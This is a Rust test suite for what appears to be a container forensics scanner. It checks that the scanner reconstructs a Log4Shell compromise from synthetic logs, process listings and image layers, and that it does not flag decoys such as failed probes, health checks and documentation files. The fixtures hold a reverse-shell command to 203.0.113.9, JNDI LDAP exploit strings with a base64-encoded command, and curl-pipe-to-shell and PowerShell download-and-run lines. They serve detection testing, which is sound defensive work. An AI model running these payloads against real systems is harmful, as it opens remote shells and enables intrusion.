//! The story on evidence built with decoys: a scanner spraying JNDI and `curl | sh` probes
//! answered 404 before the real exploit; the same records in a json-file log and a
//! `docker logs -t` capture; a Referer naming the victim; a health check calling `wget` on
//! loopback; an application log line with `${#items}`; a whiteout whose mtime is the
//! deletion's, not the deleted file's. Also: documentation trees, named symlinks and
//! standard input.

use base64::Engine as _;
use serde_json::Value;

use crate::image_build::{step, Image, Layer};
use crate::util::{run_json, validate_against_schema, write_files};

const ID: &str = "5e1f00ddba11ad0000000000000000000000000000000000000000000000cafe";

fn inspect() -> String {
    format!(
        r#"[{{"Id":"{ID}","Name":"/shop","Created":"2026-11-27T09:59:58Z",
        "State":{{"Status":"running","Running":true,"Pid":4100,"StartedAt":"2026-11-27T10:00:00Z"}},
        "Image":"sha256:aaaa","HostConfig":{{"NetworkMode":"shopnet",
        "PortBindings":{{"8080/tcp":[{{"HostIp":"0.0.0.0","HostPort":"8080"}}]}}}},
        "Config":{{"Hostname":"shop","Image":"shop:1.4","Cmd":["java","-jar","/app/shop.jar"]}},
        "NetworkSettings":{{"Ports":{{"8080/tcp":[{{"HostIp":"0.0.0.0","HostPort":"8080"}}]}},
        "Networks":{{"shopnet":{{"IPAddress":"172.18.0.5","Gateway":"172.18.0.1"}}}}}}}}]"#
    )
}

const PAYLOAD: &str = "bash -i >& /dev/tcp/203.0.113.9/9001 0>&1";

/// (time, message) of the container's stdout: access log lines and the app's own log.
fn records() -> Vec<(String, String)> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(PAYLOAD);
    let access = |ip: &str, t: &str, req: &str, status: u16, referer: &str, ua: &str| {
        format!("shop.victim.example:8080 {ip} - - [27/Nov/2026:{t} +0000] \"{req}\" {status} 12 \"{referer}\" \"{ua}\"")
    };
    vec![
        (
            "2026-11-27T10:00:01.100000000Z".into(),
            "2026-11-27 10:00:01.100 INFO  Shop - started on 8080".into(),
        ),
        (
            "2026-11-27T11:59:30.000000001Z".into(),
            access("127.0.0.1", "11:59:30", "GET /health HTTP/1.1", 200, "-", "Wget"),
        ),
        (
            "2026-11-27T12:00:01.000000001Z".into(),
            access(
                "198.51.100.77",
                "12:00:01",
                "GET /?x=${jndi:ldap://198.51.100.77:1389/a} HTTP/1.1",
                404,
                "-",
                "${jndi:ldap://198.51.100.77:1389/ua}",
            ),
        ),
        (
            "2026-11-27T12:00:02.000000001Z".into(),
            access(
                "198.51.100.77",
                "12:00:02",
                "GET /cgi-bin/x?cmd=curl%20http%3A%2F%2F198.51.100.77%2Fs.sh%7Csh HTTP/1.1",
                404,
                "-",
                "Mozilla/5.0",
            ),
        ),
        (
            "2026-11-27T12:05:00.500000001Z".into(),
            "2026-11-27 12:05:00.500 INFO  CartView - rendered ${#items} items".into(),
        ),
        (
            "2026-11-27T12:10:00.123456789Z".into(),
            access(
                "203.0.113.9",
                "12:10:00",
                "GET /api/cart HTTP/1.1",
                200,
                "http://shop.victim.example/cart",
                &format!("${{jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/{b64}}}"),
            ),
        ),
        (
            "2026-11-27T12:29:30.000000001Z".into(),
            access("127.0.0.1", "12:29:30", "GET /health HTTP/1.1", 200, "-", "Wget"),
        ),
    ]
}

const TOP: &str = "UID          PID    PPID  C STIME TTY          TIME CMD
root        4100    4080  1 10:00 ?        00:10:00 java -jar /app/shop.jar
root        4150    4080  0 10:00 ?        00:00:00 /bin/sh -c while true; do wget -q -O /dev/null http://127.0.0.1:8080/health; sleep 30; done
root        5200    4100  0 12:10 ?        00:00:00 bash -c bash -i >& /dev/tcp/203.0.113.9/9001 0>&1
";

/// 2020-01-01: the log file's own mtime, long before the incident.
const OLD: u64 = 1_577_836_800;
/// 2026-11-27T12:30:00Z: when the whiteout was written (the deletion).
const WIPED: u64 = 1_795_782_600;

fn bundle(dir: &std::path::Path) {
    let json_file: String = records()
        .iter()
        .map(|(t, m)| {
            format!("{}\n", serde_json::json!({"log": format!("{m}\n"), "stream": "stdout", "time": t}))
        })
        .collect();
    let logs_t: String = records().iter().map(|(t, m)| format!("{t} {m}\n")).collect();
    let base = Layer::new()
        .dir("app/")
        .file("app/shop.jar", b"PK\x03\x04 not really a jar")
        .dir("var/")
        .dir("var/log/")
        .dir("var/log/shop/")
        .file_with("var/log/shop/app.log", b"old log\n", 0o644, OLD)
        .build();
    let commit = Layer::new()
        .dir("var/")
        .dir("var/log/")
        .dir("var/log/shop/")
        .file_with("var/log/shop/.wh.app.log", b"", 0o600, WIPED)
        .build();
    let mut s = step("2026-11-27T15:00:00Z", "java -jar /app/shop.jar");
    s.comment = "IR: shop compromised, scene preserved";
    let image = Image::new("ir/shop:snap")
        .layer(base, step("2026-11-01T00:00:00Z", "COPY shop.jar /app/"))
        .layer(commit, s);
    let image = Image { cmd: vec!["java".into(), "-jar".into(), "/app/shop.jar".into()], ..image };
    write_files(
        dir,
        &[
            ("inspect.json", inspect().as_bytes()),
            ("top.txt", TOP.as_bytes()),
            (&format!("{ID}-json.log"), json_file.as_bytes()),
            ("docker-logs-t.txt", logs_t.as_bytes()),
            ("image.tar", &image.docker_save()),
        ],
    );
}

fn strs<'a>(v: &'a Value, key: &str) -> Vec<&'a str> {
    v.as_array().unwrap().iter().map(|x| x[key].as_str().unwrap()).collect()
}

#[test]
fn the_true_chain_behind_the_decoys() {
    let dir = tempfile::tempdir().unwrap();
    bundle(dir.path());
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    assert_eq!(code & 2, 0, "all evidence readable: {:#}", v["bundles"][0]["diagnostics"]);
    let b = &v["bundles"][0];
    let verdict = &b["verdicts"][0];
    assert_eq!(verdict["container"], "shop");
    assert_eq!(verdict["status"], "compromised", "{verdict:#}");

    // The way in is the exploit that worked, at the json-file time; the probes are not.
    let chain = b["chain"].as_array().unwrap();
    let stages: Vec<&str> = strs(&b["chain"], "stage");
    assert_eq!(stages, ["way in", "execution", "command and control", "cover-up"], "{chain:#?}");
    assert!(chain[0]["title"].as_str().unwrap().starts_with("Log4Shell JNDI lookup"), "{:#}", chain[0]);
    assert!(chain[0]["title"].as_str().unwrap().contains("203.0.113.9"), "{:#}", chain[0]);
    assert_eq!(chain[0]["when"]["time"], "2026-11-27T12:10:00.123456789Z");
    assert_eq!(chain[1]["when"]["not_before"], "2026-11-27T12:10:00.000000000Z");
    assert_eq!(chain[1]["when"]["not_after"], "2026-11-27T12:10:59.000000000Z");
    // The deletion is dated by its whiteout, not by the deleted file's 2020 mtime.
    assert_eq!(chain[3]["when"]["time"], "2026-11-27T12:30:00.000000000Z", "{:#}", chain[3]);
    assert!(chain[3]["title"].as_str().unwrap().contains("/var/log/shop/app.log"));

    // One record, two captures: the json-file log and `docker logs -t`.
    let rec = b["log_records"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["excerpt"].as_str().unwrap().contains("203.0.113.9 - -"))
        .expect("the exploit record");
    let arts = strs(&rec["locators"], "artifact");
    assert_eq!(arts, [format!("{ID}-json.log").as_str(), "docker-logs-t.txt"]);
    let way_in = &b["findings"][chain[0]["fact"].as_u64().unwrap() as usize];
    assert_eq!(way_in["outcome"], "succeeded");
    assert!(way_in["summary"].as_str().unwrap().contains("2 capture(s)"), "{way_in:#}");

    // The scanner's probes are attempts, failed, never the way in.
    let attempts = b["attempts"].as_array().unwrap();
    assert!(!attempts.is_empty());
    for a in attempts {
        assert_eq!(a["source"], "198.51.100.77", "{a:#}");
        assert_eq!(a["outcome"], "failed");
        assert_eq!(a["reason"], "answered 404");
    }
    // `${#items}` in the application's own log is no OGNL injection.
    let all_rules: Vec<&str> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()))
        .chain(attempts.iter().map(|a| a["rule"].as_str().unwrap()))
        .collect();
    assert!(!all_rules.iter().any(|r| r.contains("ognl")), "{all_rules:?}");
    // The health check (wget on loopback, run by the runtime) is not a download-and-run;
    // the scanner's `curl | sh` probe is an attempt, not a fact.
    let fact_rules: Vec<&str> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] != "story.attempts")
        .flat_map(|f| f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()))
        .collect();
    assert!(!fact_rules.iter().any(|r| r.contains("download")), "{fact_rules:?}");
    assert_eq!(fact_rules.iter().filter(|r| **r == "proc.lineage.server-shell").count(), 1, "{fact_rules:?}");

    // Attacker vs victim.
    let role =
        |h: &str| b["hosts"].as_array().unwrap().iter().find(|x| x["value"] == h).map(|x| x["role"].clone());
    assert_eq!(role("203.0.113.9").unwrap(), "attacker");
    assert_eq!(role("198.51.100.77").unwrap(), "attacker");
    assert!(role("127.0.0.1").is_none_or(|r| r == "victim"));
    assert_eq!(role("shop.victim.example").unwrap(), "victim");
    let iocs = strs(&b["iocs"], "value");
    for own in ["127.0.0.1", "shop.victim.example", "172.18.0.5", "172.18.0.1"] {
        assert!(!iocs.contains(&own), "{own} is the victim's: {iocs:?}");
    }
    assert!(iocs.contains(&"203.0.113.9") && iocs.contains(&"198.51.100.77"), "{iocs:?}");
    // The plan blocks the attacker's addresses and nothing of the victim's.
    let block = b["response_plan"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["step"] == "Block the attacker's addresses")
        .expect("a block step");
    let cmds: Vec<&str> = block["commands"].as_array().unwrap().iter().map(|c| c.as_str().unwrap()).collect();
    assert!(cmds.contains(&"iptables -I DOCKER-USER -s 203.0.113.9 -j DROP"), "{cmds:?}");
    for c in &cmds {
        assert!(!c.contains("127.0.0.1") && !c.contains("172.18.0.") && !c.contains("victim"), "{c}");
    }
    // Live session: the reverse shell still runs.
    let live = verdict["live_sessions"].as_array().unwrap();
    assert!(live.iter().any(|l| l.as_str().unwrap().contains("203.0.113.9:9001")), "{verdict:#}");
}

/// An application log line carrying a lookup names no sender and no status: the story says
/// where the payload would call (never "from" that server) and claims no more than a sighting.
#[test]
fn a_lookup_without_a_sender_is_told_by_its_callback() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("app.log", b"2021-12-11 10:00:00 [MyApp] - Contains ${jndi:ldap://attacker.example/a}\n"),
            (
                "access.log",
                b"203.0.113.9 - - [11/Dec/2021:10:00:01 +0000] \"GET /?q=${jndi:ldap://cb.example/x} HTTP/1.1\" 200 12 \"-\" \"curl\"\n",
            ),
        ],
    );
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let why = b["verdicts"][0]["reason"].as_str().unwrap();
    assert!(why.contains("with callback to attacker.example (nothing in the evidence followed"), "{why}");
    assert!(!why.contains("from attacker.example"), "{why}");
    assert!(why.contains("from 203.0.113.9 (answered 200, but nothing in the evidence followed"), "{why}");
    let attempts = b["attempts"].as_array().unwrap();
    let app = attempts.iter().find(|a| a["source"] == "attacker.example").unwrap();
    assert_eq!(app["source_role"], "callback");
}

#[test]
fn a_documentation_tree_is_no_attack() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("bash/CHANGES", b"  - fixed `bash -i >& /dev/tcp/host/port 0>&1` redirections\n  - use ${#variable} for the length\n"),
            ("crun/README.md", b"Install with:\n\n    curl -sSL https://example.org/install.sh | sh\n"),
            ("node/BUILDING.md", b"PS> iex ((New-Object System.Net.WebClient).DownloadString('https://x/y.ps1'))\n"),
            ("git/contrib/Makefile", b"-include ../../../config.mak\n"),
            ("examples/bash.bashrc", b"# unset HISTFILE to keep no history\nexport HISTSIZE=0\n"),
            ("python/HISTORY", b"- pty.spawn() now works with script -qc\n"),
        ],
    );
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    assert_eq!(code, 0, "{:#}", b["findings"]);
    assert_eq!(b["verdicts"][0]["status"], "no sign");
    assert!(b["findings"].as_array().unwrap().is_empty(), "{:#}", b["findings"]);
    assert_eq!(b["not_logs"].as_array().unwrap().len(), 6, "{:#}", b["not_logs"]);
    // Named on its own, a file is scanned whatever it is: the analyst asked.
    let (v, _) = run_json(&["scan", dir.path().join("crun/README.md").to_str().unwrap()]);
    assert!(!v["bundles"][0]["log_hits"].as_array().unwrap().is_empty());
}

#[test]
fn a_named_symlink_and_standard_input_are_read_as_the_analyst_named_them() {
    let dir = tempfile::tempdir().unwrap();
    let case = dir.path().join("case");
    std::fs::create_dir(&case).unwrap();
    bundle(&case);
    let link = dir.path().join("link");
    std::os::unix::fs::symlink(&case, &link).unwrap();
    let norm = |mut v: Value| {
        v["run"] = Value::Null;
        let b = &mut v["bundles"][0];
        b["path"] = Value::Null;
        b["named"] = Value::Null;
        v
    };
    let (direct, c1) = run_json(&["scan", case.to_str().unwrap()]);
    let (linked, c2) = run_json(&["scan", link.to_str().unwrap()]);
    assert!(linked["bundles"][0]["named"].as_str().unwrap().contains("symbolic link"));
    assert_eq!(c1, c2);
    assert_eq!(norm(direct), norm(linked), "a symlinked path gives the target's report");

    // `-`: standard input, streamed into a spool, hashed as read.
    let log = std::fs::read(case.join(format!("{ID}-json.log"))).unwrap();
    let mut child = std::process::Command::new(crate::util::bin())
        .args(["scan", "-", "--format", "json"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(&log).unwrap();
    let out = child.wait_with_output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let a = &v["bundles"][0]["artifacts"][0];
    assert_eq!(a["path"], "-");
    assert_eq!(a["kind"], "json-file-log");
    assert_eq!(a["sha256"].as_str().unwrap(), crate::util::sha256_file(&case.join(format!("{ID}-json.log"))));
    assert!(a["note"].as_str().unwrap().contains("standard input"));
    assert!(!v["bundles"][0]["log_hits"].as_array().unwrap().is_empty());
}

#[test]
fn several_containers_each_get_their_facts_and_the_rest_is_the_bundles() {
    let dir = tempfile::tempdir().unwrap();
    bundle(dir.path());
    let two = inspect().trim_end().trim_end_matches(']').to_string()
        + r#",{"Id":"db0000000000000000000000000000000000000000000000000000000000000001","Name":"/db",
        "State":{"Status":"running","Running":true,"Pid":4300,"StartedAt":"2026-11-27T09:00:00Z"},
        "Config":{"Image":"postgres:16"},"NetworkSettings":{"Networks":{"shopnet":{"IPAddress":"172.18.0.6"}}}}]"#;
    std::fs::write(dir.path().join("inspect.json"), two).unwrap();
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let verdicts = v["bundles"][0]["verdicts"].as_array().unwrap();
    let of = |c: Option<&str>| {
        verdicts
            .iter()
            .find(|x| x["container"].as_str() == c)
            .unwrap_or_else(|| panic!("{c:?}: {verdicts:#?}"))
    };
    // The exploit is in shop's own json-file log: shop was compromised.
    assert_eq!(of(Some("shop"))["status"], "compromised", "{verdicts:#?}");
    // Only db's configuration was read: no judgement on what happened inside it.
    assert_eq!(of(Some("db"))["status"], "inconclusive", "{verdicts:#?}");
    assert!(of(Some("db"))["reason"].as_str().unwrap().contains("only its configuration"), "{verdicts:#?}");
    // The process capture names no container: its reverse shell is the bundle's, not hidden.
    assert_eq!(of(None)["status"], "compromised", "{verdicts:#?}");
}

#[test]
#[ignore = "reads the host's /usr/share/doc (thousands of files); CI runs it with --include-ignored"]
fn the_hosts_documentation_tree_gives_no_high_or_critical_fact() {
    let doc = std::path::Path::new("/usr/share/doc");
    assert!(doc.is_dir(), "/usr/share/doc is missing: this test needs a Debian-like host");
    let (v, _) = run_json(&["scan", doc.to_str().unwrap(), "-q"]);
    let b = &v["bundles"][0];
    let serious: Vec<&Value> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "high" || f["severity"] == "critical")
        .collect();
    assert!(serious.is_empty(), "{serious:#?}");
    assert_ne!(b["verdicts"][0]["status"], "compromised");
    assert!(!b["not_logs"].as_array().unwrap().is_empty(), "documentation is recognised as such");
}
